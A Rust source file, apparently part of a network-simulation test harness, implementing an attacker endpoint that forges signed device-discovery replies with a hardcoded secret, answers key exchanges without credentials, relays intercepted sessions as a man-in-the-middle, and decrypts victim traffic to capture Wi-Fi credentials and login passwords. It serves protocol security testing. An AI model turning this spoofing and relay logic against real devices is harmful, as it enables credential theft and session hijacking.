//! The attacker's network presence: one fabric endpoint that can forge
//! discovery replies, answer key exchanges without any credential, intercept
//! and relay poisoned channels, and record everything it sees.

use std::cell::RefCell;
use std::collections::BTreeMap;
use std::rc::Rc;

use rand::{RngCore, SeedableRng};
use rand_chacha::ChaCha20Rng;
use serde::Serialize;
use serde_json::json;

use netsim_fabric::{
    payload_digest, ChannelId, Delivery, DeliveryKind, Endpoint, Net, NodeId, SecurityClass,
};
use proto_core::{
    encode_discovery_response, encode_key_request, encode_key_response, encode_session_envelope,
    open_session_message, parse_discovery_request, parse_discovery_response, parse_key_request,
    parse_key_response, parse_login_device, parse_session_envelope, parse_set_qs_info,
    seal_session_message, tskep_finalize, tskep_initiate, tskep_respond, Credentials,
    DiscoveryResponse, DiscoverySecret, EncryptScheme, InitiatorState, KeyRequest, SessionContext,
    SessionMessage, SessionPolicies,
};

/// What the forged device pretends to be. Model names and their transport
/// schemes are public catalog knowledge.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Impersonation {
    pub device_model: String,
    pub device_type: String,
    pub supports_https: bool,
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub enum ForgedOwner {
    RandomHex,
    Known(String),
    Absent,
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub enum ForgedId {
    RandomHex,
    /// All zeros, which wins lexicographic tie-breaks against real ids.
    Zeros,
}

#[derive(Debug, Clone)]
pub struct ForgeTemplate {
    pub impersonation: Impersonation,
    pub factory_default: bool,
    pub owner: ForgedOwner,
    pub device_id: ForgedId,
}

#[derive(Debug, Clone)]
pub struct RogueConfig {
    /// The discovery-MAC secret this attacker holds. The hardcoded constant
    /// by default; a mutation hands it a wrong one.
    pub secret: DiscoverySecret,
    pub forge: Option<ForgeTemplate>,
    pub respond_key_exchange: bool,
    /// Relay intercepted channels onward to the intended device, swapping in
    /// our own session keys on each leg.
    pub relay: bool,
}

impl Default for RogueConfig {
    fn default() -> Self {
        RogueConfig {
            secret: DiscoverySecret::hardcoded(),
            forge: None,
            respond_key_exchange: true,
            relay: false,
        }
    }
}

/// One observed delivery, kept verbatim for provenance checks.
#[derive(Debug, Clone)]
pub struct Capture {
    pub at: u64,
    pub from: NodeId,
    pub to: NodeId,
    pub bytes: Vec<u8>,
    pub digest: String,
    pub sealed: bool,
    pub channel_class: Option<SecurityClass>,
}

/// Credentials recovered from a decrypted message, with enough material to
/// re-derive them from the logged delivery.
#[derive(Debug, Clone)]
pub struct CapturedCreds {
    pub creds: Credentials,
    pub delivery_digest: String,
    pub raw_frame: Vec<u8>,
    pub ctx: SessionContext,
}

#[derive(Debug, Clone)]
pub struct LoginCapture {
    pub email_digest: String,
    pub password: String,
    pub delivery_digest: String,
    pub raw_frame: Vec<u8>,
    pub ctx: SessionContext,
}

/// Everything the attacker learned, shared between the endpoint and the
/// strategy that concludes the run.
#[derive(Debug, Default)]
pub struct RogueState {
    pub forged_sent: u32,
    pub key_requests_seen: u32,
    pub tls_rejections: u32,
    pub intercepts: u32,
    /// Count of victim messages decrypted under a session we responded to.
    pub sessions_completed: u32,
    pub relayed_decrypted: u32,
    pub replayed_effects: u32,
    pub qs_captures: Vec<CapturedCreds>,
    pub login_captures: Vec<LoginCapture>,
    pub eavesdropped: Vec<Capture>,
    pub observed_devices: Vec<DiscoveryResponse>,
    pub observed_device_nodes: Vec<NodeId>,
    pub last_broadcaster: Option<NodeId>,
}

impl RogueState {
    /// Contact evidence: the victim acted on a forged response, observable
    /// as an incoming key exchange or a TLS connection attempt.
    pub fn contact_count(&self) -> u32 {
        self.key_requests_seen + self.tls_rejections
    }

    /// Channel traffic was observed and every byte of it was sealed.
    pub fn channel_captures_all_sealed(&self) -> bool {
        let channel_caps: Vec<&Capture> =
            self.eavesdropped.iter().filter(|c| c.channel_class.is_some()).collect();
        !channel_caps.is_empty() && channel_caps.iter().all(|c| c.sealed)
    }

    /// Two distinct unsealed channel captures with identical bytes — the
    /// deterministic-encryption witness.
    pub fn equal_ciphertext_pair(&self) -> bool {
        let frames: Vec<&Capture> = self
            .eavesdropped
            .iter()
            .filter(|c| c.channel_class.is_some() && !c.sealed)
            .collect();
        for (i, a) in frames.iter().enumerate() {
            for b in frames.iter().skip(i + 1) {
                if a.bytes == b.bytes {
                    return true;
                }
            }
        }
        false
    }

    /// Unsealed captured session frames addressed to the given device.
    pub fn replayable_frames(&self, device: NodeId) -> Vec<Vec<u8>> {
        self.eavesdropped
            .iter()
            .filter(|c| c.to == device && !c.sealed && parse_session_envelope(&c.bytes).is_ok())
            .map(|c| c.bytes.clone())
            .collect()
    }
}

struct RelayLink {
    device_node: NodeId,
    device_channel: Option<ChannelId>,
    initiator: Option<InitiatorState>,
    device_session: Option<SessionContext>,
    pending_to_device: Vec<SessionMessage>,
}

pub struct RogueDevice {
    pub node: NodeId,
    cfg: RogueConfig,
    rng: ChaCha20Rng,
    victim_sessions: BTreeMap<ChannelId, SessionContext>,
    relays: BTreeMap<ChannelId, RelayLink>,
    device_to_victim: BTreeMap<ChannelId, ChannelId>,
    state: Rc<RefCell<RogueState>>,
}

impl RogueDevice {
    pub fn new(node: NodeId, cfg: RogueConfig, seed: u64) -> (Self, Rc<RefCell<RogueState>>) {
        let state = Rc::new(RefCell::new(RogueState::default()));
        let rogue = RogueDevice {
            node,
            cfg,
            rng: ChaCha20Rng::seed_from_u64(seed ^ 0xA77AC),
            victim_sessions: BTreeMap::new(),
            relays: BTreeMap::new(),
            device_to_victim: BTreeMap::new(),
            state: state.clone(),
        };
        (rogue, state)
    }

    fn random_hex(&mut self, bytes: usize) -> String {
        let mut buf = vec![0u8; bytes];
        self.rng.fill_bytes(&mut buf);
        buf.iter().map(|b| format!("{b:02x}")).collect()
    }

    fn forged_response(&mut self, net: &Net, template: &ForgeTemplate) -> DiscoveryResponse {
        let device_id = match &template.device_id {
            ForgedId::RandomHex => self.random_hex(8),
            ForgedId::Zeros => "0".repeat(16),
        };
        let owner = match &template.owner {
            ForgedOwner::RandomHex => Some(self.random_hex(8)),
            ForgedOwner::Known(id) => Some(id.clone()),
            ForgedOwner::Absent => None,
        };
        let scheme = if template.impersonation.supports_https {
            EncryptScheme::aes_https(443)
        } else {
            EncryptScheme::aes_http(80)
        };
        let mut resp = DiscoveryResponse {
            device_id,
            owner,
            device_name: None,
            device_type: template.impersonation.device_type.clone(),
            device_model: template.impersonation.device_model.clone(),
            ip: net.ip_of(self.node).unwrap_or_else(|| "0.0.0.0".into()),
            mac: "DE-AD-BE-EF-00-01".into(),
            port: Some(scheme.http_port),
            hardware_version: None,
            firmware_version: None,
            factory_default: template.factory_default,
            is_support_iot_cloud: false,
            mgt_encrypt_schm: scheme,
            error_code: 0,
            auth_tag: Vec::new(),
            extras: Default::default(),
        };
        resp.sign(&self.cfg.secret);
        resp
    }

    fn handle_broadcast(&mut self, net: &mut Net, delivery: &Delivery) {
        self.state.borrow_mut().last_broadcaster = Some(delivery.from);
        if parse_discovery_request(&delivery.bytes).is_err() {
            return;
        }
        if let Some(template) = self.cfg.forge.clone() {
            let resp = self.forged_response(net, &template);
            if net
                .send_datagram(self.node, delivery.from, &encode_discovery_response(&resp))
                .is_ok()
            {
                self.state.borrow_mut().forged_sent += 1;
            }
        }
    }

    fn record_eavesdrop(&mut self, net: &Net, delivery: &Delivery) {
        let channel_class =
            delivery.channel.and_then(|id| net.channel(id).ok()).map(|c| c.security_class);
        let capture = Capture {
            at: delivery.at,
            from: delivery.from,
            to: delivery.to,
            bytes: delivery.bytes.clone(),
            digest: payload_digest(&delivery.bytes),
            sealed: delivery.sealed,
            channel_class,
        };
        let mut state = self.state.borrow_mut();
        // Eavesdropped datagrams may be genuine discovery replies; remember
        // who the devices are.
        if channel_class.is_none() && !delivery.sealed {
            if let Ok(resp) = parse_discovery_response(&delivery.bytes) {
                if !state.observed_device_nodes.contains(&delivery.from) {
                    state.observed_device_nodes.push(delivery.from);
                }
                state.observed_devices.push(resp);
            }
        }
        state.eavesdropped.push(capture);
    }

    fn answer_key_request(&mut self, net: &mut Net, channel: ChannelId, req: &KeyRequest) {
        self.state.borrow_mut().key_requests_seen += 1;
        if !self.cfg.respond_key_exchange {
            return;
        }
        let now = net.now_secs();
        let (resp, ctx) = match tskep_respond(req, &mut self.rng, SessionPolicies::vulnerable(), now)
        {
            Ok(pair) => pair,
            Err(_) => return,
        };
        self.victim_sessions.insert(channel, ctx);
        let _ = net.send_on_channel(self.node, channel, &encode_key_response(&resp));

        // Second leg of a relay: run our own exchange with the real device.
        if let Some(link) = self.relays.get_mut(&channel) {
            if link.device_channel.is_none() {
                if let Ok(device_channel) =
                    net.open_channel(self.node, link.device_node, SecurityClass::PlaintextWifi)
                {
                    let (request, state) = tskep_initiate(&mut self.rng, req.request_id);
                    let _ =
                        net.send_on_channel(self.node, device_channel, &encode_key_request(&request));
                    link.device_channel = Some(device_channel);
                    link.initiator = Some(state);
                    self.device_to_victim.insert(device_channel, channel);
                }
            }
        }
    }

    fn forward_to_device(&mut self, net: &mut Net, victim_channel: ChannelId, msg: SessionMessage) {
        if let Some(link) = self.relays.get_mut(&victim_channel) {
            match (&link.device_session, link.device_channel) {
                (Some(ctx), Some(device_channel)) => {
                    let mut out = msg;
                    seal_session_message(ctx, &mut out, &mut self.rng);
                    let _ =
                        net.send_on_channel(self.node, device_channel, &encode_session_envelope(&out));
                }
                _ => link.pending_to_device.push(msg),
            }
        }
    }

    fn handle_victim_ciphertext(&mut self, net: &mut Net, channel: ChannelId, raw: &[u8], ciphertext: &[u8]) {
        let ctx = match self.victim_sessions.get(&channel) {
            Some(ctx) => ctx.clone(),
            None => return,
        };
        let msg = match open_session_message(&ctx, ciphertext) {
            Ok(msg) => msg,
            Err(_) => return,
        };
        {
            let mut state = self.state.borrow_mut();
            state.sessions_completed += 1;
            let digest = payload_digest(raw);
            if let Ok(creds) = parse_set_qs_info(&msg) {
                state.qs_captures.push(CapturedCreds {
                    creds,
                    delivery_digest: digest.clone(),
                    raw_frame: raw.to_vec(),
                    ctx: ctx.clone(),
                });
            } else if let Ok((email_digest, password)) = parse_login_device(&msg) {
                state.login_captures.push(LoginCapture {
                    email_digest,
                    password,
                    delivery_digest: digest.clone(),
                    raw_frame: raw.to_vec(),
                    ctx: ctx.clone(),
                });
            }
        }

        if self.cfg.relay && self.relays.contains_key(&channel) {
            self.forward_to_device(net, channel, msg);
        } else {
            // Stand-alone rogue endpoint: acknowledge everything.
            let mut reply = SessionMessage::response(0, json!({}), net.now_secs());
            seal_session_message(&ctx, &mut reply, &mut self.rng);
            let _ = net.send_on_channel(self.node, channel, &encode_session_envelope(&reply));
        }
    }

    fn handle_device_reply(&mut self, net: &mut Net, device_channel: ChannelId, raw: &[u8]) -> bool {
        let victim_channel = match self.device_to_victim.get(&device_channel) {
            Some(ch) => *ch,
            None => return false,
        };
        // Key-exchange response from the device completes our second leg.
        if let Ok(resp) = parse_key_response(raw) {
            if let Some(link) = self.relays.get_mut(&victim_channel) {
                if link.device_session.is_none() {
                    if let Some(initiator) = &link.initiator {
                        if let Ok(ctx) = tskep_finalize(
                            &resp,
                            initiator,
                            SessionPolicies::vulnerable(),
                            "",
                            net.now_secs(),
                        ) {
                            link.device_session = Some(ctx);
                            let pending = std::mem::take(&mut link.pending_to_device);
                            for msg in pending {
                                self.forward_to_device(net, victim_channel, msg);
                            }
                        }
                    }
                    return true;
                }
            }
        }
        // Otherwise it is an encrypted reply: decrypt, record, re-seal for
        // the victim so the relayed session stays transparent.
        if let Ok(ciphertext) = parse_session_envelope(raw) {
            let (device_ctx, victim_ctx) = {
                let link = match self.relays.get(&victim_channel) {
                    Some(l) => l,
                    None => return true,
                };
                match (&link.device_session, self.victim_sessions.get(&victim_channel)) {
                    (Some(d), Some(v)) => (d.clone(), v.clone()),
                    _ => return true,
                }
            };
            if let Ok(msg) = open_session_message(&device_ctx, &ciphertext) {
                self.state.borrow_mut().relayed_decrypted += 1;
                let mut out = msg;
                seal_session_message(&victim_ctx, &mut out, &mut self.rng);
                let _ = net.send_on_channel(self.node, victim_channel, &encode_session_envelope(&out));
            }
        }
        true
    }
}

impl Endpoint for RogueDevice {
    fn on_delivery(&mut self, net: &mut Net, delivery: &Delivery) {
        match &delivery.kind {
            DeliveryKind::Broadcast => self.handle_broadcast(net, delivery),
            DeliveryKind::Eavesdrop => self.record_eavesdrop(net, delivery),
            DeliveryKind::TlsHandshakeRejected => {
                self.state.borrow_mut().tls_rejections += 1;
            }
            DeliveryKind::InterceptedOpen { intended } => {
                self.state.borrow_mut().intercepts += 1;
                if self.cfg.relay {
                    if let Some(channel) = delivery.channel {
                        self.relays.insert(
                            channel,
                            RelayLink {
                                device_node: *intended,
                                device_channel: None,
                                initiator: None,
                                device_session: None,
                                pending_to_device: Vec::new(),
                            },
                        );
                    }
                }
            }
            DeliveryKind::Channel => {
                let channel = match delivery.channel {
                    Some(id) => id,
                    None => return,
                };
                if self.handle_device_reply(net, channel, &delivery.bytes) {
                    return;
                }
                if let Ok(req) = parse_key_request(&delivery.bytes) {
                    self.answer_key_request(net, channel, &req);
                } else if let Ok(ciphertext) = parse_session_envelope(&delivery.bytes) {
                    self.handle_victim_ciphertext(net, channel, &delivery.bytes, &ciphertext);
                }
            }
            DeliveryKind::Datagram => {
                // Direct datagrams to the attacker are discovery replies to
                // probes it sent itself; treat them like observations.
                self.record_eavesdrop(net, delivery);
            }
        }
    }
}
